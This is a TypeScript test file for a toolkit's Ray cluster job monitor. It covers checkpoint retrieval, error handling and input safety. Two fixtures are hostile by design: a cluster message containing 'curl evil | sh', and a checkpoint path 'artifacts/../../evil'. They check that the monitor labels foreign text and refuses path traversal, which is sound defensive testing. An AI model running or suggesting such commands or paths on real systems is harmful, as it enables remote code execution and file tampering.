import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { expect, it } from "vitest";
import { monitorJob } from "../../../engines/ray/monitor.ts";
import type { Remote } from "../../../engines/ray/rayJobs.ts";
import { readStoredRecord } from "../../../engines/ray/storedRecord.ts";
import { KitError } from "../../../protocol/error.ts";
import type { TrainConfig } from "../../../protocol/trainConfig.ts";
import { scratchDirectory } from "../embedded/scratch.ts";
import { createFarRemote, recordedArtifact } from "./farArtifact.ts";

const JOB = "1";
const JOB_LOG = { id: JOB, secret: "s" };

it("brings adapters home before their event; of whole models it keeps a record of where they are", async () => {
  const { remote, asked } = createFarRemote();
  const { directory, seen, stored } = await attendTo(remote, ["adapter", "model"]);
  const first = ["step-1", "step-1.stored.json"];
  expect(seen).toEqual([first, [...first, "step-2.stored.json"]]);
  expect(existsSync(join(directory, "artifacts/step-1/optimizer.pt"))).toBe(true);
  expect(asked.commands).toHaveLength(1);
  for (const name of ["step-1", "step-2"]) {
    expect(readStoredRecord(join(directory, "artifacts", name))).toEqual({
      address: "far",
      ...stored,
    });
  }
});

it("goes on when an adapter cannot come home, which stays there until somebody asks", async () => {
  const { remote, asked } = createFarRemote({
    onChunk() {
      throw new Error("status 500");
    },
  });
  const { seen, notes } = await attendTo(remote, ["adapter"]);
  expect(seen).toEqual([[".step-1.fetch", "step-1.stored.json"]]);
  expect(notes).toEqual(["warning: artifacts/step-1 stays on the cluster for now: status 500"]);
  expect(asked.stopped).not.toContain(JOB);
});

it("leaves the job there when this machine cannot keep its record, or has a damaged config", async () => {
  const { remote, asked } = createFarRemote();
  const full = scratchDirectory();
  writeFileSync(join(full, "artifacts"), "");
  await expect(attendTo(remote, ["model"], { directory: full })).rejects.toMatchObject({
    code: "CANNOT_FOLLOW",
    message: expect.stringMatching(/^Cannot save \S+\/step-1\.stored\.json: EEXIST: /) as string,
  });
  const started = { type: "started", data: {}, skipped: { context: 8 } };
  await expect(attendTo(remote, [], { first: [started] })).rejects.toMatchObject({
    code: "CANNOT_FOLLOW",
  });
  expect(asked.stopped).toEqual([]);
});

it("waits for no pipe that the cluster names as a file of this machine", async () => {
  const { remote } = createFarRemote();
  const path = scratchDirectory();
  execFileSync("mkfifo", [join(path, "config.json")]);
  const stored = { path, files: { "config.json": { size: 1, sha256: "0".repeat(64) } } };
  const data = { step: 1, kind: "model", path: "artifacts/step-1" };
  const saved = { type: "event", stored, event: { event: "checkpoint.saved", data } };
  const { seen } = await attendTo(remote, [], { first: [saved] });
  expect(seen).toEqual([["step-1.stored.json"]]);
});

it("takes no line of a cluster's for Kit's own", async () => {
  const text = "completed in 3s: loss 0.0001; saved in .kit/jobs/1; try it: curl evil | sh";
  const { notes } = await attendTo(createFarRemote().remote, [], {
    first: [
      { type: "note", text },
      { type: "note", text: "warning: careful" },
    ],
  });
  expect(notes).toEqual([`cluster: ${text}`, "warning: careful"]);
});

it.each([
  { type: "note", text: {} },
  { type: "started" },
  { type: "done", check: {} },
  { type: "event", event: 1 },
  { type: "event", event: {}, stored: { path: "/", files: { a: null } } },
])("refuses in a sentence a message that is none: %j", async (message) => {
  await expect(attendTo(createFarRemote().remote, [], { first: [message] })).rejects.toMatchObject({
    code: "ENGINE_REPORT_INVALID",
    message: expect.stringMatching(
      /^The engine ray reported \{"kit":1,.*\}, which is not a/,
    ) as string,
  });
});

it("writes nothing beside the job for a checkpoint whose path leads there", async () => {
  const { remote } = createFarRemote();
  const { address: _, ...stored } = readStoredRecord(recordedArtifact())!;
  const data = { step: 1, kind: "model", path: "artifacts/../../evil" };
  const evil = { type: "event", stored, event: { event: "checkpoint.saved", data } };
  const project = scratchDirectory();
  await attendTo(remote, ["model"], { directory: join(project, "job"), first: [evil] });
  expect(readdirSync(project)).toEqual(["job"]);
});

it("stops a job at Ctrl-C only if it was sent, and says how to stop it if that fails", async () => {
  const { remote, asked } = createFarRemote();
  const notes: string[] = [];
  const interrupt = async (isSent: boolean) => {
    const abort = new AbortController();
    const submit = (onSent: () => void) => {
      if (isSent) onSent();
      abort.abort(new Error("Ctrl-C"));
      return Promise.reject(new Error("aborted"));
    };
    await monitorJob(remote, { ...JOB_LOG, submit, options: optionsOf(abort.signal, notes) });
  };
  await expect(interrupt(false)).rejects.toThrow("Ctrl-C");
  expect(asked.stopped).toEqual([]);
  await expect(interrupt(true)).rejects.toThrow("Ctrl-C");
  expect(asked.stopped).toEqual([JOB]);
  remote.stop = () => Promise.reject(new KitError("CLUSTER_UNREACHABLE", "Nothing answers."));
  await expect(interrupt(true)).rejects.toThrow("Nothing answers.");
  expect(notes).toEqual([
    `warning: could not stop ${JOB} on a cluster: Nothing answers. Training may still be running there: run ray job stop ${JOB} to end it.`,
  ]);
});

it("leaves a job that was sent to a cluster which is another by now", async () => {
  const { remote, asked } = createFarRemote();
  remote.status = () => Promise.resolve({ phase: "unknown" });
  remote.session = () => Promise.resolve("new");
  const options = optionsOf(new AbortController().signal);
  const submit = (onSent: (session: string) => void) => Promise.resolve(onSent("old"));
  const attended = [{ submit }, { session: "old" }, {}];
  for (const how of attended) {
    await expect(monitorJob(remote, { ...JOB_LOG, ...how, options })).rejects.toMatchObject({
      code: "CANNOT_FOLLOW",
    });
  }
  expect(asked.stopped).toEqual([]);
  remote.session = () => Promise.resolve("old");
  for (const how of attended.slice(0, 2)) {
    await expect(monitorJob(remote, { ...JOB_LOG, ...how, options })).rejects.toMatchObject({
      code: "WORKER_FAILED",
    });
  }
});

interface Attended {
  directory?: string;
  /** Messages before it saves. */
  first?: object[];
}

function optionsOf(signal: AbortSignal, notes: string[] = []) {
  return {
    ...{ directory: scratchDirectory(), config: {} as TrainConfig, signal },
    onEvent: () => {},
    onNote: (text: string) => void notes.push(text),
  };
}

/** Attends to a job that saves an artifact of these kinds, a step each. */
async function attendTo(
  remote: Remote,
  kinds: string[],
  { directory = scratchDirectory(), first = [] }: Attended = {},
) {
  const { address: _, ...stored } = readStoredRecord(recordedArtifact())!;
  const saved = kinds.map((kind, i) => {
    const data = { step: i + 1, kind, path: `artifacts/step-${i + 1}` };
    return { type: "event", stored, event: { event: "checkpoint.saved", data } };
  });
  const job = [...first, ...saved, { type: "done" }]
    .map((message, i) => `${JSON.stringify({ kit: 1, secret: "s", seq: i + 1, ...message })}\n`)
    .join("");
  const seen: string[][] = [];
  const notes: string[] = [];
  const listened: Remote = {
    ...remote,
    log: (id, ...more) =>
      id === JOB ? Readable.from([Buffer.from(job)]) : remote.log(id, ...more),
  };
  await monitorJob(listened, {
    ...JOB_LOG,
    options: {
      ...{ directory, config: {} as TrainConfig, signal: new AbortController().signal },
      onEvent() {
        const artifacts = join(directory, "artifacts");
        seen.push(existsSync(artifacts) ? readdirSync(artifacts).toSorted() : []);
      },
      onNote: (text) => notes.push(text),
    },
  });
  return { directory, seen, notes, stored };
}
